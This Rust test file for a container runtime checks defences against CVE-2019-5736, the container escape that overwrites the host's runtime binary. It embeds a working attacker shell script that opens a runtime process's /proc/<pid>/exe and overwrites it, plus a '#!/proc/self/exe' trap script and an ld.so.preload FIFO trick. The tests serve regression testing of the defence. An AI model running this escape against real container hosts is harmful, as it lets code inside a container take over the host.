//! CVE-2019-5736: a process in the container opens the runtime binary
//! through /proc/<pid>/exe of a runtime process that has entered the
//! container (the init waiting at the start barrier, an `exec`, or the
//! runtime re-run by a `#!/proc/self/exe` script), then reopens that fd for
//! writing once the runtime exits and overwrites the host's binary.
//!
//! The tests run a private copy of the runtime (the attack, when it works,
//! destroys the binary) and compare its sha256 before and after.

mod security_common;

use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::time::Duration;

use security_common::*;

/// The attacker: find a process whose exe is not busybox (a runtime
/// process in our pid namespace), open its exe read-only as fd 3, then keep
/// trying to reopen /proc/self/fd/3 for writing (ETXTBSY while any
/// process still executes it) and overwrite it.
const ATTACKER: &str = r#"
found=
i=0
while [ -z "$found" ] && [ $i -lt 20000 ]; do
  for p in /proc/[0-9]*; do
    [ "$p" = "/proc/$$" ] && continue
    l=$(readlink $p/exe 2>/dev/null) || continue
    case "$l" in
      *busybox*|"") ;;
      *) if ( : < $p/exe ) 2>/dev/null; then exec 3< $p/exe && found="$p $l" && break; fi ;;
    esac
  done
  i=$((i+1)); [ $((i % 50)) = 0 ] && sleep 0.01
done
[ -n "$found" ] || { echo "never found a runtime process" > /tmp/status; [ -p /etc/ld.so.preload ] && ( echo > /etc/ld.so.preload ) & exit 0; }
echo "opened $found" > /tmp/status
# Let a runtime held by the FIFO /etc/ld.so.preload go on (see below).
[ -p /etc/ld.so.preload ] && ( echo > /etc/ld.so.preload ) &
i=0
while [ $i -lt 600 ]; do
  if ( printf '#!/bin/sh\necho PWNED\n' > /proc/self/fd/3 ) 2>/dev/null; then echo "overwrote $found" >> /tmp/status; exit 0; fi
  i=$((i+1)); sleep 0.05
done
echo "could not write" >> /tmp/status
"#;

fn status(rootfs: &Path) -> String {
    std::fs::read_to_string(rootfs.join("tmp/status")).unwrap_or_default()
}

fn attack_finished(rootfs: &Path) -> bool {
    let s = status(rootfs);
    s.contains("never found") || s.contains("overwrote") || s.contains("could not write")
}

/// CVE-2019-5736 via the start barrier: container B joins container A's
/// pid namespace; while B's init (a clone of the runtime) waits for
/// `start`, A's process opens /proc/<B init>/exe and, after `start`,
/// writes to it. The host binary must stay unchanged.
#[test]
fn cve_2019_5736_runtime_binary_not_writable_via_init_exe() {
    let mut env = Env::new();
    let bin = env.use_runtime_copy();
    let before = sha256(&bin);

    let a = env.bundle("attacker", &["sh", "-c", ATTACKER]);
    let ida = env.id("att");
    let o = env.run_detached(&a, &ida);
    assert!(o.ok, "run attacker: {o:?}");
    let apid = env.pid(&ida);

    let mut b = env.bundle("victim", &["sleep", "1"]);
    b.config["linux"]["namespaces"][0] =
        serde_json::json!({"type": "pid", "path": format!("/proc/{apid}/ns/pid")});
    let idb = env.id("vic");
    let o = env.create(&b, &idb);
    assert!(o.ok, "create victim: {o:?}");
    // Give the attacker time to find and open the waiting init's exe. When
    // the defence holds it never can (the init is non-dumpable), gives up
    // and exits, which ends its pid namespace and the victim with it.
    wait_for(Duration::from_secs(30), || {
        let s = status(&a.rootfs);
        s.contains("opened") || s.contains("never found")
    });
    if status(&a.rootfs).contains("opened") {
        let o = Out::from(env.rt(&["start", &idb]));
        assert!(o.ok, "start victim: {o:?}");
    }
    wait_for(Duration::from_secs(40), || attack_finished(&a.rootfs));
    let st = status(&a.rootfs);
    let after = sha256(&bin);
    let head: Vec<u8> = std::fs::read(&bin)
        .unwrap_or_default()
        .into_iter()
        .take(40)
        .collect();
    eprintln!(
        "attacker: {st}; binary now starts with {:?}",
        String::from_utf8_lossy(&head)
    );
    assert_eq!(
        before, after,
        "the runtime binary on the host was overwritten from inside the container: {st}"
    );
    assert!(std::fs::metadata(&bin).unwrap().permissions().mode() & 0o111 != 0);
}

/// Copy the runtime's dynamic loader and libraries into a rootfs, at the
/// same paths (an image with glibc has them anyway).
fn install_runtime_libs(rootfs: &Path) {
    let o = std::process::Command::new("ldd")
        .arg(runtime_bin())
        .output()
        .expect("ldd");
    for line in String::from_utf8_lossy(&o.stdout).lines() {
        let path = line.split_whitespace().find(|w| w.starts_with('/'));
        if let Some(p) = path {
            let dst = rootfs.join(p.trim_start_matches('/'));
            std::fs::create_dir_all(dst.parent().unwrap()).unwrap();
            std::fs::copy(p, &dst).expect("copy library");
        }
    }
}

/// An executable /evil with `script` in the rootfs, and /etc/ld.so.preload
/// as a FIFO (see the tests below for what each is for).
fn plant_evil_script(rootfs: &Path, script: &str) {
    std::fs::write(rootfs.join("evil"), script).unwrap();
    std::fs::set_permissions(rootfs.join("evil"), std::fs::Permissions::from_mode(0o755)).unwrap();
    let fifo = std::ffi::CString::new(
        rootfs
            .join("etc/ld.so.preload")
            .into_os_string()
            .into_encoded_bytes(),
    )
    .unwrap();
    // SAFETY: valid C string.
    assert_eq!(unsafe { libc::mkfifo(fifo.as_ptr(), 0o644) }, 0, "mkfifo");
}

/// CVE-2019-5736, the original form: `exec` of a `#!/proc/self/exe`
/// script into a container where an attacker waits. The script's
/// interpreter, /proc/self/exe of the exec'd runtime clone, is the runtime
/// binary: it runs again inside the container. The image holds it there:
/// /etc/ld.so.preload is a FIFO, so the dynamic loader blocks reading it
/// until the attacker has opened /proc/<pid>/exe.
#[test]
fn cve_2019_5736_proc_self_exe_script_via_exec() {
    let mut env = Env::new();
    let bin = env.use_runtime_copy();
    let before = sha256(&bin);

    let a = env.bundle("attacker", &["sh", "-c", ATTACKER]);
    install_runtime_libs(&a.rootfs);
    plant_evil_script(&a.rootfs, "#!/proc/self/exe\n");
    let ida = env.id("att");
    let o = env.run_detached(&a, &ida);
    assert!(o.ok, "run attacker: {o:?}");
    let o = Out::from(env.rt(&["exec", &ida, "/evil"]));
    wait_for(Duration::from_secs(40), || attack_finished(&a.rootfs));
    let st = status(&a.rootfs);
    let after = sha256(&bin);
    eprintln!("attacker: {st}; exec: {o:?}");
    assert_eq!(before, after, "the runtime binary on the host was overwritten from inside the container: {st} (exec: {o:?})");
    // As for `run`: the script's interpreter is the exec trampoline, which
    // refuses arguments that are not its own.
    assert_eq!(
        o.code,
        Some(126),
        "the script's interpreter is the trampoline, which refuses to run it: {o:?}"
    );
}

/// The `#!/proc/self/exe` attack on `run`. Container A runs the attacker;
/// the victim V joins A's pid namespace and shares A's rootfs (for the
/// attack, one container: A's processes see V's, V's files are A's). V's
/// program is /evil, a `#!/proc/self/exe update` script: the kernel runs
/// whatever /proc/self/exe is at the init's final execve. Were that the
/// runtime binary, it would run in the container as `onggi-runtime update
/// /evil -r /etc/ld.so.preload` and block reading that FIFO (the binary is
/// static, the file is only a FIFO to block on) until the attacker has
/// opened its exe and writes to the FIFO; `run` returns only after that.
/// Returns the runtime copy's sha256 before and after, the attacker's
/// status and `run`'s output.
fn proc_self_exe_script_attack(
    seccomp: Option<serde_json::Value>,
) -> (String, String, String, Out) {
    let mut env = Env::new();
    let bin = env.use_runtime_copy();
    let before = sha256(&bin);

    let a = env.bundle("attacker", &["sh", "-c", ATTACKER]);
    plant_evil_script(&a.rootfs, "#!/proc/self/exe update\n");
    let ida = env.id("att");
    let o = env.run_detached(&a, &ida);
    assert!(o.ok, "run attacker: {o:?}");
    let apid = env.pid(&ida);

    let mut v = env.bundle("victim", &["/evil", "-r", "/etc/ld.so.preload"]);
    v.config["root"]["path"] = a.rootfs.to_str().unwrap().into();
    v.config["linux"]["namespaces"][0] =
        serde_json::json!({"type": "pid", "path": format!("/proc/{apid}/ns/pid")});
    if let Some(s) = seccomp {
        v.config["linux"]["seccomp"] = s;
    }
    let idv = env.id("vic");
    let run = env.run(&v, &idv);
    // Once the attacker holds a runtime binary, it tries to write it for
    // up to 30 s; when it never got one, V is gone and there is nothing
    // left to find.
    if status(&a.rootfs).contains("opened") {
        wait_for(Duration::from_secs(60), || attack_finished(&a.rootfs));
    }
    let st = status(&a.rootfs);
    let after = sha256(&bin);
    eprintln!("attacker: {st:?}; run: {run:?}");
    (before, after, st, run)
}

/// CVE-2019-5736 on `run`, the container's own program being a
/// `#!/proc/self/exe` script: its interpreter is the exec trampoline's
/// sealed memfd, which refuses arguments that are not its own (126), so
/// the runtime binary never runs in the container.
#[test]
fn cve_2019_5736_proc_self_exe_script_via_run() {
    let (before, after, st, run) = proc_self_exe_script_attack(None);
    assert_eq!(
        before, after,
        "the runtime binary on the host was overwritten from inside the container: {st} (run: {run:?})"
    );
    assert_eq!(
        run.code,
        Some(126),
        "the script's interpreter is the trampoline, which refuses to run it: {run:?}"
    );
    assert!(!st.contains("overwrote"), "{st}");
}

/// A seccomp filter that refuses execveat rules the trampoline out: create
/// falls back to re-executing from a read-only view of the binary. The
/// container still runs, and the `#!/proc/self/exe` script then does run
/// the runtime binary in the container (the attacker gets hold of it), but
/// cannot write it.
#[test]
fn cve_2019_5736_fallback_when_seccomp_denies_execveat() {
    let profile = serde_json::json!({"defaultAction": "SCMP_ACT_ALLOW",
        "syscalls": [{"names": ["execveat"], "action": "SCMP_ACT_ERRNO"}]});
    let env = Env::new();
    let mut b = env.bundle("plain", &["sh", "-c", "echo ran"]);
    b.config["linux"]["seccomp"] = profile.clone();
    let o = env.run(&b, &env.id("plain"));
    assert!(o.ok && o.stdout == "ran\n", "{o:?}");

    let (before, after, st, run) = proc_self_exe_script_attack(Some(profile));
    assert_eq!(
        before, after,
        "the runtime binary on the host was overwritten from inside the container: {st} (run: {run:?})"
    );
    assert!(
        st.contains("opened") && st.contains("could not write"),
        "the runtime ran in the container from its read-only view: {st} (run: {run:?})"
    );
}

/// A program that cannot be exec'd fails `run` with a message naming it:
/// missing or not executable (found at create, as before), or failing in
/// execve itself (the trampoline's record, decoded by start). runc says
/// "exec /hostbin: no such file or directory" for the missing loader.
#[test]
fn exec_failures_name_the_program() {
    let env = Env::new();
    let mut b = env.bundle("b", &["true"]);
    // A dynamic host binary whose ELF interpreter the rootfs lacks.
    std::fs::copy("/bin/true", b.rootfs.join("hostbin")).unwrap();
    std::fs::write(b.rootfs.join("garbage"), "no shebang, no ELF\n").unwrap();
    std::fs::set_permissions(
        b.rootfs.join("garbage"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    std::fs::write(b.rootfs.join("notexec"), "#!/bin/sh\n").unwrap();
    std::fs::set_permissions(
        b.rootfs.join("notexec"),
        std::fs::Permissions::from_mode(0o644),
    )
    .unwrap();
    for (prog, want) in [
        (
            "/hostbin",
            "exec \"/hostbin\": No such file or directory (os error 2)",
        ),
        (
            "/garbage",
            "exec \"/garbage\": Exec format error (os error 8)",
        ),
        ("/nonexistent", "\"/nonexistent\""),
        ("/notexec", "\"/notexec\""),
    ] {
        b.config["process"]["args"] = serde_json::json!([prog]);
        let o = env.run(&b, &env.id("bad"));
        eprintln!("{prog}: {}", o.stderr.trim());
        assert!(!o.ok && o.code != Some(0), "{prog}: {o:?}");
        assert!(o.stderr.contains(want), "{prog}: want {want:?} in {o:?}");
    }
    if !Path::new("/usr/sbin/runc").exists() {
        return;
    }
    b.config["process"]["args"] = serde_json::json!(["/hostbin"]);
    b.write();
    let root = env.path().join("runc-root");
    let mut c = std::process::Command::new("runc");
    c.arg("--root")
        .arg(&root)
        .args(["run", "--bundle", b.dir_str(), "runc-hostbin"])
        .stdin(std::process::Stdio::null());
    let runc = Out::from(output_with_timeout(c, Duration::from_secs(60)));
    let _ = std::process::Command::new("runc")
        .arg("--root")
        .arg(&root)
        .args(["delete", "--force", "runc-hostbin"])
        .output();
    eprintln!("runc: {runc:?}");
    assert!(
        !runc.ok && runc.stderr.contains("/hostbin"),
        "runc fails the same way: {runc:?}"
    );
}

/// Once the program runs, the init's /proc/PID/exe is that program (not
/// the trampoline, not the runtime) and neither the trampoline's memfd nor
/// the exec fifo is open in it.
#[test]
fn running_init_is_the_program_with_no_runtime_fds() {
    let env = Env::new();
    let b = env.bundle("b", &["sleep", "60"]);
    let id = env.id("exe");
    let o = env.run_detached(&b, &id);
    assert!(o.ok, "{o:?}");
    let pid = env.pid(&id);
    let exe = std::fs::read_link(format!("/proc/{pid}/exe")).unwrap();
    let (got, want) = (
        std::fs::metadata(format!("/proc/{pid}/exe")).unwrap(),
        std::fs::metadata(b.rootfs.join("bin/busybox")).unwrap(),
    );
    use std::os::unix::fs::MetadataExt;
    assert_eq!(
        (got.dev(), got.ino()),
        (want.dev(), want.ino()),
        "/proc/{pid}/exe is {exe:?}, not the container's busybox"
    );
    let fds: Vec<(u32, String)> = std::fs::read_dir(format!("/proc/{pid}/fd"))
        .unwrap()
        .flatten()
        .map(|e| {
            let n = e.file_name().to_string_lossy().parse().unwrap();
            let target = std::fs::read_link(e.path()).unwrap_or_default();
            (n, target.to_string_lossy().into_owned())
        })
        .collect();
    assert!(
        !fds.iter()
            .any(|(_, t)| t.contains("memfd:") || t.ends_with(".fifo")),
        "{fds:?}"
    );
    let mut nums: Vec<u32> = fds.iter().map(|(n, _)| *n).collect();
    nums.sort();
    assert_eq!(nums, [0, 1, 2], "only stdio: {fds:?}");
}
